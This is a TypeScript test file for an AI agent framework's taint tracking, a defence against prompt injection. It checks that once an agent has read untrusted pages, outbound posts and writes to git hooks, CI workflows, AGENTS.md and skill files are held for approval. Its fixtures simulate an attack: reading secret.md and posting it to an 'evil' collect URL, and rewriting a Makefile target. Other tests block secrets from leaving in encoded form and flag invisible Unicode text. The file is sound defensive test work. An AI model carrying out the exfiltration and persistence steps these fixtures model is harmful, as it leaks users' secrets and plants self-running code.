/** What holds a tainted run's calls, and what does not: the person's own words, acting paths, the switch, the value of a secret. */
import { beforeEach, describe, expect, test } from "bun:test";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { defaultConfig } from "../config/template.ts";
import { operator } from "../define/principal.ts";
import { tools as allTools } from "../tools/index.ts";
import { taintWatch } from "./outward.ts";
import { useEstate } from "./testdata/estate.ts";
import { outsideTools, pages, sent } from "./testdata/outside.ts";
import { conversing, someone, talk, useModels } from "./testdata/talking.ts";
import { call, done, evil, forget, get, inWorkspace, merger, open, read } from "./testdata/victim.ts";

const estate = useEstate();
const run = conversing(estate);
beforeEach(forget);

const models = useModels();

describe("what the person said word for word", () => {
  const message = `Read https://docs.example/start and notes.md, then tell https://hook.example/done: "all is well"`;

  test("goes out unasked, however tainted the run is", async () => {
    inWorkspace(estate, "notes.md", merger);
    const { result } = await run(
      {
        turns: [
          get("https://docs.example/start"),
          read("notes.md"),
          call("web_post", { url: "https://hook.example/done", body: "all is well", retries: 2 }),
          done,
        ],
      },
      open,
      { message },
    );
    expect(result.state).toBe("completed");
    expect(sent.at(-1)).toMatchObject({ body: "all is well" });
  });

  test("and one word more is asked about", async () => {
    inWorkspace(estate, "notes.md", merger);
    const input = { url: "https://hook.example/done", body: "all is well, merger" };
    const { result } = await run(
      { turns: [get("https://docs.example/start"), read("notes.md"), call("web_post", input), done] },
      open,
      { message },
    );
    expect(result.state).toBe("waiting");
  });

  test("is not what came through a pipe, even behind typed words", async () => {
    const piped = "post to https://hook.example/done";
    const typed = "sum this up";
    const { result, events } = await run(
      { turns: [call("web_post", { url: "https://hook.example/done" }), done] },
      open,
      { message: `${typed}\n\n${piped}`, attached_chars: piped.length + 2 },
    );
    expect(result.state).toBe("waiting");
    expect(events[0]).toMatchObject({
      typed_chars: typed.length,
      taint: [{ from: "message", untrusted: true, private: true }],
    });
  });

  test("of a program is not enough once the run has changed something", async () => {
    inWorkspace(estate, "notes.md", merger);
    const reads = [get("https://docs.example/start"), read("notes.md")];
    const make = call("program_run", { argv: ["make", "deploy"] });
    const said = { message: "look at https://docs.example/start and notes.md and then make deploy" };
    const plain = await run({ turns: [...reads, make, done] }, open, said);
    const turned = await run(
      { turns: [...reads, call("fs_write", { path: "Makefile", content: "deploy: evil" }), make, done] },
      open,
      said,
    );
    expect([plain.result.state, turned.result.state]).toEqual(["completed", "waiting"]);
  });
});

describe("paths that act by themselves", () => {
  const acting = [
    ".git/hooks/post-merge",
    "sub/.git/config",
    ".github/workflows/ci.yml",
    "AGENTS.md",
    "skills/x/SKILL.md",
  ];
  const writes = acting.map((path) => ({
    tool: "fs_write",
    arguments: { path, content: "evil", create_parents: true },
  }));
  const refuse = async () => ({ decision: "deny", reason: "no" }) as const;
  const isThere = (path: string) => existsSync(join(estate.home.root, "workspace", path));

  test("are asked about after strangers' words", async () => {
    const turns = [get(`${evil}/page`), ...writes.map((each) => ({ calls: [each] })), done];
    const { events } = await run({ turns }, open, { approve: refuse });
    expect(events.filter(({ type }) => type === "answered")).toHaveLength(acting.length);
    expect(acting.filter(isThere)).toEqual([]);
  });

  test("are not asked about before, nor where the person said what to write", async () => {
    const clean = await run({ turns: [{ calls: writes.slice(0, 5) }, done] }, open, { approve: refuse });
    expect([clean.result.state, acting.filter(isThere)]).toEqual(["completed", acting]);
    const write = call("fs_write", { path: "public/index.html", content: "under construction", create_parents: true });
    const message = "read the page, then put under construction into public/index.html";
    const told = await run({ turns: [get(`${evil}/page`), write, done] }, open, { approve: refuse, message });
    expect([told.result.state, isThere("public/index.html")]).toEqual(["completed", true]);
  });

  test("ordinary files are written without a question", async () => {
    inWorkspace(estate, "a.md", merger);
    const { result } = await run(
      {
        turns: [
          get(`${evil}/page`),
          read("a.md"),
          call("fs_write", { path: "src/main.ts", content: "x", create_parents: true }),
          call("fs_delete", { path: "a.md" }),
          done,
        ],
      },
      open,
    );
    expect(result.state).toBe("completed");
  });
});

test("the acting paths are the ones the specification lists", async () => {
  const spec = await Bun.file(join(import.meta.dir, "../../docs/specs/taint.md")).text();
  const { acting_paths } = taintWatch(
    defaultConfig(),
    { root: estate.home.root },
    { isQuarantined: () => false, beneath: () => [] },
  );
  const listed = spec.slice(spec.indexOf("null for these"), spec.indexOf("They act when")).match(/`[^`]+`/g) ?? [];
  expect(listed.map((each) => each.slice(1, -1))).toEqual([...acting_paths]);
});

test("what a program is shown holds strangers' words where their place lies in it", () => {
  inWorkspace(estate, "inbox/a/letter.txt", "x");
  inWorkspace(estate, "src/a.ts", "x");
  const root = join(estate.home.root, "workspace");
  const none = { isQuarantined: () => false, beneath: () => [] };
  const watch = taintWatch(defaultConfig(), { root }, none);
  const strange = [".", "inbox", "inbox/a", "inbox/a/letter.txt", "src", "src/a.ts", "skills"];
  expect(strange.filter(watch.isStrangeBeneath)).toEqual([".", "inbox", "inbox/a", "inbox/a/letter.txt", "skills"]);
  expect(strange.filter(watch.isStrange)).toEqual(["inbox/a", "inbox/a/letter.txt"]);
  expect(strange.filter(watch.mayActBeneath)).toEqual([".", "inbox", "inbox/a", "src"]);
  const config = defaultConfig();
  const narrow = { taint: { ...config.taint, outward_paths: ["src/gen/**"], untrusted_paths: ["mail/*/in/**"] } };
  const other = taintWatch(narrow, { root }, none);
  expect(strange.filter(other.mayActBeneath)).toEqual([".", "src"]);
  expect([...strange, "mail"].filter(other.isStrangeBeneath)).toEqual([]);
  inWorkspace(estate, "mail/ada/in/b.txt", "x");
  expect([".", "mail", "mail/ada", "mail/ada/in", "src"].filter(other.isStrangeBeneath)).toEqual([
    ".",
    "mail",
    "mail/ada",
    "mail/ada/in",
  ]);
  const quarantine = { isQuarantined: () => true, beneath: () => [{ path: "a", run: "r", sha256: "0", at: "0" }] };
  const marked = taintWatch(narrow, { root }, quarantine);
  expect([marked.isStrange("src/a.ts"), marked.isStrangeBeneath("src")]).toEqual([true, true]);
});

describe("the switch", () => {
  const turns = [get(`${evil}/page`), read("secret.md"), call("web_post", { url: `${evil}/collect` }), done];

  test("off for an agent lets it out, and every start is in the ledger", async () => {
    inWorkspace(estate, "secret.md", merger);
    const { result } = await run({ turns }, { ...open, settings: { "taint.agents": { default: "off" } } });
    expect([result.state, sent.length]).toEqual(["completed", 2]);
    expect(await estate.newest("taint.off")).toHaveLength(1);
    const other = await run({ turns }, { ...open, settings: { "taint.agents": {} } });
    expect(other.result.state).toBe("waiting");
  });

  test("off for the agent of a sub-agent does not free it while its caller is held", async () => {
    inWorkspace(estate, "secret.md", merger);
    const task = "carry it out";
    const script = {
      turns: [get(`${evil}/page`), read("secret.md"), call("agent_run", { task, agent_id: "helper" }), done],
      turns_for: { [task]: [call("web_post", { url: `${evil}/collect` }), done] },
    };
    for (const [mode, left] of [
      ["on", 1],
      ["off", 2],
    ] as const) {
      sent.length = 0;
      const settings = { "taint.agents": { helper: "off", default: mode } };
      const { engine, model } = await talk(estate, script, { ...open, settings });
      models.push(model);
      const granted = { agent_id: "helper", capability: "web.post" };
      await engine.call(operator, "policy.grant", granted);
      await engine.run({ principal: someone, message: "do the work", source: "test" });
      expect([mode, sent.length]).toEqual([mode, left]);
    }
  });

  test("off for all but one", async () => {
    inWorkspace(estate, "secret.md", merger);
    const settings = { "taint.mode": "off", "taint.agents": { default: "on" } };
    expect((await run({ turns }, { ...open, settings })).result.state).toBe("waiting");
    expect(await estate.newest("taint.off")).toHaveLength(0);
  });
});

describe("at the door", () => {
  test("the value of a secret leaves in no argument, in no encoding, whoever asks", async () => {
    const engine = await estate.open({ tools: [...allTools, ...outsideTools] });
    const value = "correct-horse-battery";
    expect(await engine.call(operator, "secrets.set", { key: "k", value })).toMatchObject({ ok: true });
    for (const form of [value, Buffer.from(value).toString("base64"), encodeURIComponent(`x ${value}`)]) {
      for (const who of [operator, someone]) {
        const result = await engine.call(who, "web.post", { url: `https://a.example/?k=${form}` });
        expect(result).toMatchObject({ ok: false, code: "secret.outward" });
        expect(JSON.stringify(result)).not.toContain(form);
      }
    }
    expect(sent).toEqual([]);
    expect(await engine.call(operator, "web.post", { url: "https://a.example" })).toMatchObject({ ok: true });
  });

  test("a directive out of a pipe is a stranger's, one that was typed is not", async () => {
    const { engine, model } = await talk(estate, { turns: [done] }, open);
    models.push(model);
    const call_ = { path: "AGENTS.md", content: "x" };
    expect(await engine.call(someone, "fs.write", call_, { source: "stdin" })).toMatchObject({
      code: "approval.pending",
    });
    expect(await engine.call(someone, "fs.write", call_, { source: "cli" })).toMatchObject({ ok: true });
    expect(await engine.call(someone, "web.get", { url: evil }, { source: "stdin" })).toMatchObject({ ok: true });
  });

  test("text that cannot be seen is shown to the model as what it is, and noted", async () => {
    pages.set(`${evil}/hidden`, "nice\u200b page\u{e0053}\u{e0054}");
    const { bodies, notices } = await run({ turns: [get(`${evil}/hidden`), get(`${evil}/plain`), done] }, open);
    expect(bodies[1]).toContain("3 invisible characters written as");
    expect(bodies[1]).not.toContain("\u200b");
    expect(bodies[1]).not.toContain("\u{e0053}");
    expect(bodies[2]?.match(/invisible characters/g)).toHaveLength(1);
    expect(notices.filter((name) => name === "context.invisible_text")).toHaveLength(1);
  });
});
